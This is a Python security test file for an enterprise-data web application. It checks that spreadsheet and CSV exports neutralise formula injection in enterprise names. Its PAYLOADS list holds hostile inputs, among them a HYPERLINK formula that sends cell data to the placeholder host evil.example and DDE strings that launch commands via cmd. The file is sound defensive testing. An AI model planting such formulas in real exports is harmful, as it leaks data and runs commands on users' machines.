"""Formula injection: an enterprise named ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0`` is written as
text in every export, never as a live formula; CSV text cannot start a formula.

Each file is read back with openpyxl (no formula cell) or with the csv module.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pyarrow as pa
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session
from tests.security.conftest import SignIn
from tests.web.county import CODES

from mujun.io.error_report import write_error_report
from mujun.io.notice_list import notice_list_xlsx
from mujun.io.problems import Problem
from mujun.io.results import write_results
from mujun.store.models import Enterprise, RunResult

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]

#: the payloads an xlsx keeps character for character (XML turns a lone CR into a line feed)
PLAIN = {p for p in PAYLOADS if "\r" not in p}


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def formula_cells(data: bytes | Path) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in book.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def texts(data: bytes | Path) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


def _rename(engine: Engine) -> None:
    with Session(engine) as session:
        for i, code in enumerate(CODES):
            session.execute(update(Enterprise).where(Enterprise.uscc == code)
                            .values(name=payload(i)))
            session.execute(update(RunResult).where(RunResult.uscc == code)
                            .values(name=payload(i)))
        session.commit()


def test_web_enterprise_and_land_exports_write_names_as_text(engine: Engine,
                                                             sign_in: SignIn) -> None:
    _rename(engine)
    admin = sign_in("admin")
    for url in ("/api/enterprises/export.xlsx", "/api/land/low-efficiency.xlsx",
                "/api/runs/2/results.xlsx"):
        r = admin.get(url)
        assert r.status_code == 200, (url, r.text)
        assert formula_cells(r.content) == [], url
        assert texts(r.content) & set(PAYLOADS), url  # the names are there, as text


def _results() -> pa.Table:
    return pa.table({"uscc": CODES[:len(PAYLOADS)], "name": PAYLOADS,
                     "score": [1.5 - i for i in range(len(PAYLOADS))]})


def test_results_xlsx_has_no_formula(tmp_path: Path) -> None:
    path = write_results(_results(), tmp_path / "r.xlsx")
    assert formula_cells(path) == []
    assert texts(path) >= PLAIN


def test_results_csv_text_cannot_start_a_formula(tmp_path: Path) -> None:
    path = write_results(_results(), tmp_path / "r.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert [float(r["score"]) for r in rows][3] == -1.5  # numbers stay numbers, minus and all


def test_notice_list_and_error_report_have_no_formula(tmp_path: Path) -> None:
    rows = [{"uscc": CODES[i], "name": p, "group": "above", "class": "A", "rank": i + 1,
             "score": 90.0, "vetoed": True, "veto_reason": p} for i, p in enumerate(PAYLOADS)]
    notice = tmp_path / "n.xlsx"
    notice.write_bytes(notice_list_xlsx(rows, title=PAYLOADS[0],
                                        towns={CODES[0]: PAYLOADS[1]}, footer=PAYLOADS[2],
                                        notice_from=datetime(2024, 1, 1, tzinfo=UTC),
                                        notice_until=datetime(2024, 1, 8, tzinfo=UTC)))
    assert formula_cells(notice) == []
    report = write_error_report(tmp_path / "e.xlsx", [
        Problem(p, i, p, p, p) for i, p in enumerate(PAYLOADS)], title=PAYLOADS[0])
    assert formula_cells(report) == []
    assert texts(report) >= PLAIN
